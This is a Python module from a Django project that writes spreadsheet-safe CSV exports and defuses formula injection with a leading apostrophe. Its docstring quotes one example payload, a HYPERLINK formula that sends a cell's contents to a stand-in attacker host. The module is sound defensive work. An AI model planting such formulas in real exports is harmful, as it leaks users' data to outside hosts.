"""CSV export that is safe to open in a spreadsheet.

Formula injection (CSV injection): a cell that starts with = + - @ (or a tab or carriage
return, which some spreadsheets skip before reading a formula) is run as a formula when the
file is opened, e.g. ``=HYPERLINK("http://evil.example/?"&A1,"klik")``. Every such text
cell gets a leading apostrophe, which spreadsheets show as text and do not evaluate. Leading
spaces do not help an attacker evade this: the check looks past them. Full-width variants
(＝ ＋ － ＠) are treated the same, because some spreadsheet applications normalise them.

Numbers (int, float, Decimal) are written as they are; only text is escaped. This module has
no Django model imports so that other areas (the dashboard) can reuse it.
"""

import csv
import io
from collections.abc import Iterable
from datetime import date, datetime
from decimal import Decimal

from django.http import HttpResponse
from django.utils import timezone

from kcc.core.csvsafe import FORMULA_PREFIXES, defuse  # noqa: F401  (re-exported)


def csv_safe(value) -> str | int | float | Decimal:
    """One cell, safe against formula injection. None becomes an empty cell, dates ISO 8601
    (datetimes in local time), booleans 'ja'/'nee'."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "ja" if value else "nee"
    if isinstance(value, int | float | Decimal):
        return value
    if isinstance(value, datetime):
        if timezone.is_aware(value):
            value = timezone.localtime(value)
        return value.strftime("%Y-%m-%d %H:%M")
    if isinstance(value, date):
        return value.isoformat()
    return defuse(str(value))


def csv_text(rows: Iterable[Iterable], *, delimiter: str = ";") -> str:
    """The rows as CSV text, every cell passed through `csv_safe`. Semicolon-separated by
    default: that is what Dutch spreadsheet settings expect."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n")
    for row in rows:
        writer.writerow([csv_safe(cell) for cell in row])
    return buffer.getvalue()


def csv_response(rows: Iterable[Iterable], *, filename: str, delimiter: str = ";") -> HttpResponse:
    """An attachment download. UTF-8 with BOM, so that spreadsheets detect the encoding."""
    safe_name = "".join(c for c in filename if c.isalnum() or c in "-_.") or "export.csv"
    response = HttpResponse(
        "\ufeff" + csv_text(rows, delimiter=delimiter),
        content_type="text/csv; charset=utf-8",
    )
    response["Content-Disposition"] = f'attachment; filename="{safe_name}"'
    response["Cache-Control"] = "no-store"
    response["X-Content-Type-Options"] = "nosniff"
    return response
